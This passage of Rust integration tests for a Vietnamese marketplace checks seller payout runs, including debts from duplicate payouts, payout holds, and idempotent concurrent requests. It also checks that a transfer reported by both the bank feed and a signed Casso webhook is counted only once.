                    &format!("/shops/{shop}/payout-account"),
                    Some(&token),
                    Some(json!({"bank_bin": "970436", "account_no": "0011001234567", "account_name": "Chu Cua Hang", "password": PW})),
                )
                .await;
            assert_eq!(s, StatusCode::OK, "{v}");
        }
    };
    account(hanh.clone(), "man-tuyn-ba-hanh").await;
    account(toan.clone(), "co-khi-van-toan").await;
    account(huong.clone(), "man-phu-doi-thanh-huong").await;
    let deliver = |token: String, order: String| {
        let app = app.clone();
        async move {
            for to in ["accepted", "shipped", "delivered"] {
                let (s, v) = transition(&app, &token, &order, to).await;
                assert_eq!(s, StatusCode::OK, "{v}");
            }
            app.buyer_received(&order).await;
        }
    };
    // Hạnh: 180.000 paid out, then sent a second time by mistake (she owes it back).
    let (pay, o) = checkout(&app, &[(NET, 1)]).await;
    app.transfer(180_000, &pay).await;
    deliver(hanh.clone(), o[0].clone()).await;
    let (s, r) = app
        .api(
            "POST",
            "/payout-runs",
            Some(&admin),
            Some(json!({"method": "bank_app"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{r}");
    let p1 = r["payouts"][0]["code"].as_str().unwrap().to_string();
    // Meanwhile two more nets are delivered: 360.000 available.
    let (pay, o) = checkout(&app, &[(NET, 2)]).await;
    app.transfer(360_000, &pay).await;
    deliver(hanh.clone(), o[0].clone()).await;
    for id in ["P1-OUT", "P1-OUT-AGAIN"] {
        app.bank_webhook(&json!({"id": id, "amount": -180_000, "description": format!("CHO LANG {p1}"), "account_number": "1017595600"}))
            .await;
    }
    let txn: i64 = app
        .scalar("SELECT id FROM bank_transactions WHERE outflow = 'unexplained'")
        .await;
    let (s, v) = app
        .api(
            "POST",
            &format!("/transactions/{txn}/explain"),
            Some(&admin),
            Some(json!({"as": "duplicate_payout", "payout_code": p1})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    // Toàn: 30.000 available, below the 100.000 minimum. Hương: an account just changed.
    let (pay, o) = checkout(&app, &[(HOOK, 1)]).await;
    app.transfer(30_000, &pay).await;
    deliver(toan.clone(), o[0].clone()).await;
    let (pay, o) = checkout(&app, &[("rem-cua-luoi-chong-muoi-nam-cham", 1)]).await;
    app.transfer(120_000, &pay).await;
    deliver(huong.clone(), o[0].clone()).await;
    sqlx::query("UPDATE shops SET payout_hold_until = $1 WHERE slug = 'man-phu-doi-thanh-huong'")
        .bind(cholang::domain::now_ms() + 3_600_000)
        .execute(&app.db.pool)
        .await
        .unwrap();
    // Minh Đức: money but no account.
    let duc = app.api_login(DUC, PW).await;
    let (pay, o) = checkout(&app, &[(STOOL, 1)]).await;
    app.transfer(120_000, &pay).await;
    deliver(duc.clone(), o[0].clone()).await;

    let (s, plan) = app
        .api("GET", "/payout-runs/preview", Some(&admin), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{plan}");
    let due = plan["due"].as_array().unwrap();
    assert_eq!(due.len(), 1, "{plan}");
    assert_eq!(due[0]["shop"]["slug"], "man-tuyn-ba-hanh");
    assert_eq!(due[0]["available_vnd"], 360_000);
    assert_eq!(due[0]["owed_vnd"], 180_000);
    assert_eq!(
        due[0]["amount_vnd"], 180_000,
        "available less what she owes"
    );
    assert_eq!(due[0]["bank"], "Vietcombank ••••4567");
    let held: Vec<(String, String)> = plan["held"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            (
                l["shop"]["slug"].as_str().unwrap().to_string(),
                l["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for expected in [
        ("co-khi-van-toan", "below_minimum"),
        ("man-phu-doi-thanh-huong", "account_hold"),
        ("do-go-minh-duc", "no_account"),
    ] {
        assert!(
            held.contains(&(expected.0.to_string(), expected.1.to_string())),
            "{expected:?} in {held:?}"
        );
    }
    let (s, _) = app
        .api("GET", "/payout-runs/preview", Some(&hanh), None)
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    // The admin's page shows the same before any run.
    app.login_page(cholang::demo::catalog::ADMIN_EMAIL, PW)
        .await;
    let page = app.page("/quan-tri/chi-tra").await;
    assert!(
        page.contains("Nếu lập đợt chi bây giờ")
            && page.contains("chưa đủ mức chi tối thiểu")
            && page.contains("chưa có tài khoản nhận tiền"),
        "preview on the page"
    );

    // Eight runs at once: one run, one payout of the net amount, the debt settled.
    let runs_before = app.scalar("SELECT COUNT(*) FROM payout_runs").await;
    let mut tasks = Vec::new();
    for _ in 0..8 {
        let (app, admin) = (app.clone(), admin.clone());
        tasks.push(tokio::spawn(async move {
            app.api(
                "POST",
                "/payout-runs",
                Some(&admin),
                Some(json!({"method": "bank_app"})),
            )
            .await
        }));
    }
    let mut created = Vec::new();
    for t in tasks {
        let (s, v) = t.await.unwrap();
        match s {
            StatusCode::CREATED => created.push(v),
            StatusCode::CONFLICT => {
                assert!(
                    v["error"]["message"]
                        .as_str()
                        .unwrap()
                        .contains("Không có khoản nào cần chi")
                )
            }
            other => panic!("{other}: {v}"),
        }
    }
    assert_eq!(created.len(), 1, "{created:?}");
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM payout_runs").await,
        runs_before + 1,
        "no empty runs"
    );
    let p2 = &created[0]["payouts"][0];
    assert_eq!(p2["amount_vnd"], 180_000);
    let (_, bal) = app
        .api("GET", "/shops/man-tuyn-ba-hanh/balance", Some(&hanh), None)
        .await;
    assert_eq!(
        (
            bal["available_vnd"].as_i64(),
            bal["owed_vnd"].as_i64(),
            bal["in_transit_vnd"].as_i64()
        ),
        (Some(0), Some(0), Some(180_000)),
        "{bal}"
    );
    // Eight "paid" at once: paid once, one journal.
    let code = p2["code"].as_str().unwrap().to_string();
    let mut tasks = Vec::new();
    for n in 0..8 {
        let (app, admin, code) = (app.clone(), admin.clone(), code.clone());
        tasks.push(tokio::spawn(async move {
            app.api(
                "POST",
                &format!("/payouts/{code}/mark-paid"),
                Some(&admin),
                Some(json!({"reference": format!("FT-PAID-{n}")})),
            )
            .await
            .0
        }));
    }
    let mut ok = 0;
    for t in tasks {
        match t.await.unwrap() {
            StatusCode::OK => ok += 1,
            StatusCode::CONFLICT => {}
            other => panic!("{other}"),
        }
    }
    assert_eq!(ok, 1);
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM ledger_journals WHERE kind = 'payout_paid'")
            .await,
        2
    );
    // Nothing left to pay: 409 with the reasons, and still no empty run.
    let (s, v) = app
        .api(
            "POST",
            "/payout-runs",
            Some(&admin),
            Some(json!({"method": "bank_app"})),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("Cơ khí Văn Toàn") && msg.contains("tối thiểu"),
        "{msg}"
    );
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM payout_runs").await,
        runs_before + 1
    );
    invariants_hold(&app).await;
}

/// Our bank feed and Casso report the same transfer (same bank reference and amount): it is
/// counted once; the second report is kept as a duplicate delivery. Replays change nothing.
async fn one_transfer_counted_once_across_feeds(b: Backend) {
    let app = TestApp::with_demo(b).await;
    let (pay, _) = checkout(&app, &[(NET, 1)]).await;
    let r = app
        .bank_webhook(
            &json!({"id": "FT2612050001", "amount": 180_000, "description": format!("CK {pay}"),
            "account_number": "1017595600", "reference": "FT2612050001"}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["outcome"]["status"], "paid", "{v}");
    let body = json!({"error": 0, "data": {"id": 99001, "reference": "ft2612050001", "description": format!("CK {pay}"),
        "amount": 180000, "runningBalance": 25000000, "transactionDateTime": "2026-12-05 15:06:37", "accountNumber": "1017595600",
        "bankName": "Vietcombank", "bankAbbreviation": "VCB", "virtualAccountNumber": "", "virtualAccountName": "",
        "counterAccountName": "NGUYEN VAN A", "counterAccountNumber": "8888888888", "counterAccountBankId": "970415", "counterAccountBankName": "VietinBank"}});
    let casso = || async {
        let t = cholang::domain::now_ms();
        let sig = cholang::payments::signatures::casso_sign(CASSO_KEY, t, &body);
        app.client
            .post(app.url("/webhooks/casso"))
            .header("x-casso-signature", format!("t={t},v1={sig}"))
            .body(body.to_string())
            .send()
            .await
            .unwrap()
    };
    for _ in 0..2 {
        let r = casso().await;
        assert_eq!(r.status(), StatusCode::OK);
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["outcome"]["result"], "duplicate", "{v}");
    }
    let p = app.payment(&pay).await;
    assert_eq!(p["amount_paid_vnd"], 180_000, "counted once: {p}");
    assert_eq!(p["overpaid_vnd"], 0);
    let rows: Vec<(String, String, Option<i64>)> =
        sqlx::query_as("SELECT provider, status, duplicate_of FROM bank_transactions ORDER BY id")
            .fetch_all(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(rows.len(), 2, "the second delivery is kept: {rows:?}");
    assert_eq!(
        (rows[0].0.as_str(), rows[0].1.as_str()),
        ("bank", "matched")
    );
    assert_eq!(
        (rows[1].0.as_str(), rows[1].1.as_str()),
        ("casso", "ignored")
    );
    assert!(rows[1].2.is_some(), "points at the transfer counted");
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM ledger_journals WHERE kind = 'transfer_in'")
            .await,
        1
    );
    invariants_hold(&app).await;
}
